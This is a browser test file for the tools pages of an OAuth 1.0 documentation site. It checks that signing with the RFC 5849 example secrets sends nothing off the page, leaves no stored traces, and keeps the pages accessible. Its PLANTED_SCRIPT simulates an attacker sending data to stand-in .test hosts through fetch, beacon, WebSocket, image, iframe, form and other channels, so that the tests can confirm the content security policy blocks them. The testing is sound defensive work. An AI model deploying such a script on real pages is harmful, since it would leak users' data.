// The tools of the built site in a browser: a user's actions in each, and that no data leaves
// the page.
import { isMissing } from "@oauth1/test-servers";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { accessibilityFaults, isTooWide } from "../../packages/console/test/browser.js";
import { serveSite } from "./built-site.ts";
import { type NetworkLog, recordNetwork } from "./network-log.ts";

/** RFC 5849 §1.2, with the signature that the section prints; it is that of an http URL. */
const PHOTOS = {
  request: `GET http://photos.example.net/photos?file=vacation.jpg&size=original HTTP/1.1
Host: photos.example.net
Authorization: OAuth realm="Photos",
  oauth_consumer_key="dpf43f3p2l4k3l03",
  oauth_token="nnch734d00sl2jdk",
  oauth_signature_method="HMAC-SHA1",
  oauth_timestamp="137131202",
  oauth_nonce="chapoH",
  oauth_signature="MdpQcU8iPSUjWoN%2FUDMsK2sui9I%3D"
`,
  clientSharedSecret: "kd94hf93k423kf44",
  tokenSharedSecret: "pfkkdhi9sl3r4s00",
  signature: "MdpQcU8iPSUjWoN/UDMsK2sui9I=",
};
const SECRETS = new RegExp(`${PHOTOS.clientSharedSecret}|${PHOTOS.tokenSharedSecret}`);

/** Hosts to which a planted script sends data. The name of each says how. */
const PLANTED_REQUESTS = [
  "fetch",
  "beacon",
  "websocket",
  "eventsource",
  "image",
  "stylesheet",
  "prefetch",
  "frame",
  "form",
  "worker",
];
/** The ways that only look up a host, or connect to it. */
const PLANTED_LOOKUPS = ["preconnect", "dns-prefetch"];

describe.skipIf(isMissing("chromium"))("the tools", { concurrent: true }, () => {
  let site: Awaited<ReturnType<typeof serveSite>>;
  beforeAll(async () => {
    site = await serveSite();
  });
  afterAll(() => site?.close());

  const enterSecrets = async (page: Page) => {
    await page.getByLabel("Client shared-secret").fill(PHOTOS.clientSharedSecret);
    await page.getByLabel("Token shared-secret").fill(PHOTOS.tokenSharedSecret);
  };

  const openPlayground = async (page: Page) => {
    await page.goto(`${site.origin}/tools/playground`, { waitUntil: "networkidle" });
    await page.getByRole("heading", { name: "Signature base string" }).waitFor();
  };

  const openInspector = async (page: Page) => {
    await page.goto(`${site.origin}/tools/inspector`, { waitUntil: "networkidle" });
    await page.getByRole("heading", { name: "What to paste" }).waitFor();
  };

  /** Signs the example of RFC 5849 §1.2, then by every other method. */
  const usePlayground = async (page: Page) => {
    await page.getByLabel("Paste a curl command").fill(PHOTOS.request);
    await enterSecrets(page);
    await page.getByText("It is the signature that this page computes.").waitFor();
    expect(await page.getByText(PHOTOS.signature, { exact: true }).count()).toBeGreaterThan(0);
    for (const method of ["HMAC-SHA256", "RSA-SHA1", "PLAINTEXT"]) {
      await page.getByLabel("Signature method").selectOption(method);
      await page
        .getByText("It is not the signature")
        .or(page.getByText("Enter the"))
        .first()
        .waitFor();
    }
    await page.getByRole("button", { name: "Link without secrets" }).click();
    await page.getByRole("button", { name: "Show in the address bar" }).click();
  };

  /** Finds that the query was not sent as it was signed. */
  const useInspector = async (page: Page) => {
    await page.getByLabel("Signed request").fill(PHOTOS.request.replace("GET", "POST"));
    await enterSecrets(page);
    await page.locator(".cause").getByText("MethodOverridden", { exact: true }).waitFor();
    await page.getByText("Change: pass the method that you send to your library.").waitFor();
  };

  /** The places where a secret can remain after the page is closed. */
  const traces = (page: Page) =>
    page.evaluate(
      "JSON.stringify([location.href, { ...localStorage }, { ...sessionStorage }, document.cookie, history.state, name])",
    );

  it("sign the request of RFC 5849 §1.2 and name a mistake without sending data", async () => {
    const sent = { load: [] as string[], use: [] as string[] };
    const complaints: string[] = [];
    const log = await recordNetwork({}, async (context) => {
      let phase: "load" | "use" = "load";
      context.on("request", (request) => sent[phase].push(request.url()));
      for (const [open, use] of [
        [openPlayground, usePlayground],
        [openInspector, useInspector],
      ] as const) {
        const page = await context.newPage();
        page.on("console", (message) => complaints.push(message.text()));
        page.on("pageerror", (error) => complaints.push(String(error)));
        phase = "load";
        await open(page);
        phase = "use";
        await use(page);
        expect(await traces(page)).not.toMatch(SECRETS);
        expect(await page.evaluate("indexedDB.databases()")).toEqual([]);
        await page.close();
      }
    });
    expect(complaints).toEqual([]);
    // No request after the first input, and before it only requests for the files of the tools.
    expect(sent.use.filter((url) => !url.startsWith("data:"))).toEqual([]);
    const own = new RegExp(`^${site.origin}/(tools/(playground$|inspector$|assets/)|icon\\.svg$)`);
    expect(sent.load.length).toBeGreaterThan(5);
    for (const url of sent.load) if (!/^(data|blob):/.test(url)) expect(url).toMatch(own);
    // The same according to the browser's own log, which contains all connections.
    for (const url of log.requested) expect(url).toMatch(own);
    expect(log.requested.length).toBeGreaterThan(5);
    expect(log.lookedUp).toEqual([]);
    expect(log.sent).toContain("GET /tools/inspector HTTP/1.1");
    expect(log.sent).not.toMatch(SECRETS);
  });

  it("open the inspector with the playground's request and secrets, in memory only", async () => {
    const log = await recordNetwork({}, async (context) => {
      const page = await context.newPage();
      await openPlayground(page);
      const text = PHOTOS.request.replace("GET", "POST");
      await page.getByLabel("Paste a curl command").fill(text);
      await enterSecrets(page);
      await page.getByRole("link", { name: "Explain this request in the inspector" }).click();
      await page.locator(".cause").getByText("MethodOverridden", { exact: true }).waitFor();
      expect(await page.evaluate("document.activeElement.tagName")).toBe("H1");
      expect(new URL(page.url()).pathname).toBe("/tools/inspector");
      expect(await traces(page)).not.toMatch(SECRETS);
      await page.reload();
      await page.getByRole("heading", { name: "What to paste" }).waitFor();
      expect(await page.getByLabel("Signed request").inputValue()).toBe("");
    });
    expect(log.sent).not.toMatch(SECRETS);
  });

  it("show the details of a cell of the matrix, with requests only to the site", async () => {
    const log = await recordNetwork({}, async (context) => {
      const page = await context.newPage();
      const complaints: string[] = [];
      page.on("console", (message) => complaints.push(message.text()));
      await page.goto(`${site.origin}/tools/conformance`);
      const report = page.frameLocator("iframe");
      await report.locator("a.cell.many[href*='/sign']").first().click();
      await report.locator("#details h2").waitFor();
      await report.locator("#details summary").first().click();
      await report.locator("#details details[open] dt").first().waitFor();
      // The address names the cell, so that it can be shared.
      await expect.poll(() => new URL(page.url()).hash).toMatch(/^#[\w.-]+\/sign$/);
      expect(complaints).toEqual([]);
    });
    for (const url of log.requested) expect(new URL(url).origin).toBe(site.origin);
    expect(log.lookedUp).toEqual([]);
  });

  /** Acts in the inspector like an attacker's script. */
  const plant = async (page: Page) => {
    await openInspector(page);
    await page.getByLabel("Signed request").fill(PHOTOS.request);
    await page.getByRole("status").getByText("Enter the client shared-secret").waitFor();
    const [worker] = page.workers();
    if (worker === undefined) throw new Error("the inspector has no worker");
    await worker.evaluate("fetch('http://worker.test/').catch(() => {})");
    await page.evaluate(PLANTED_SCRIPT);
    // The browser connects after the script has ended.
    await page.waitForTimeout(3000);
  };
  const hostsOf = ({ requested }: NetworkLog) =>
    [...new Set(requested.map((url) => new URL(url).hostname))]
      .filter((host) => host.endsWith(".test"))
      .sort();
  const named = (names: readonly string[]) => names.map((name) => `${name}.test`).sort();

  it("block each request of a planted script, also of one in the worker", async () => {
    expect(
      hostsOf(await recordNetwork({}, async (context) => plant(await context.newPage()))),
    ).toEqual([]);
  });

  it("would send each planted request without the policy, which the log shows", async () => {
    const log = await recordNetwork({ bypassCSP: true }, async (context) =>
      plant(await context.newPage()),
    );
    expect(hostsOf(log)).toEqual(named(PLANTED_REQUESTS));
    expect(log.lookedUp).toEqual(
      expect.arrayContaining(named([...PLANTED_REQUESTS, ...PLANTED_LOOKUPS])),
    );
  });

  for (const [colorScheme, width] of [
    ["light", 1280],
    ["dark", 360],
  ] as const) {
    it(`are accessible and fit a ${colorScheme} window of ${width} pixels`, async () => {
      await recordNetwork({ colorScheme, viewport: { width, height: 800 } }, async (context) => {
        for (const [name, open, use] of [
          ["playground", openPlayground, usePlayground],
          ["inspector", openInspector, useInspector],
          ["conformance", (page: Page) => page.goto(`${site.origin}/tools/conformance`), undefined],
        ] as const) {
          const page = await context.newPage();
          await open(page);
          await use?.(page);
          await page.getByRole("heading", { level: 1 }).waitFor();
          expect(await accessibilityFaults(page), name).toEqual([]);
          expect(await isTooWide(page), name).toBe(false);
          if (SHOTS !== undefined) {
            await page.screenshot({
              path: `${SHOTS}/${name}-${colorScheme}-${width}.png`,
              fullPage: true,
            });
          }
          await page.close();
        }
      });
    });
  }

  it("share the choice of the theme with the site", async () => {
    await recordNetwork({ colorScheme: "light" }, async (context) => {
      const page = await context.newPage();
      await page.goto(`${site.origin}/troubleshooting`);
      await page.evaluate("localStorage.setItem('vitepress-theme-appearance', 'dark')");
      await page.goto(`${site.origin}/tools/playground`);
      await page.getByRole("button", { name: "Use the light theme" }).click();
      await page.getByRole("link", { name: "@oauth1, documentation" }).click();
      await page.getByRole("heading", { level: 1 }).waitFor();
      expect(await page.evaluate("document.documentElement.classList.contains('dark')")).toBe(
        false,
      );
      await page.evaluate("localStorage.setItem('vitepress-theme-appearance', 'auto')");
      await page.goto(`${site.origin}/tools/playground`);
      await page.getByRole("button", { name: "Use the dark theme" }).waitFor();
    });
  });
});

/** A folder for pictures of the tools; none by default. */
const SHOTS = process.env["OAUTH1_SHOTS"];

const PLANTED_SCRIPT = `
  fetch("http://fetch.test/", { mode: "no-cors" }).catch(() => {});
  navigator.sendBeacon("http://beacon.test/", "x");
  try { new WebSocket("ws://websocket.test/"); } catch {}
  new EventSource("http://eventsource.test/");
  new Image().src = "http://image.test/";
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "stylesheet"]) {
    document.head.append(Object.assign(document.createElement("link"), { rel, href: "http://" + rel + ".test/" }));
  }
  document.body.append(Object.assign(document.createElement("iframe"), { src: "http://frame.test/" }));
  const form = Object.assign(document.createElement("form"), { action: "http://form.test/", target: "_blank" });
  document.body.append(form);
  form.submit();
`;
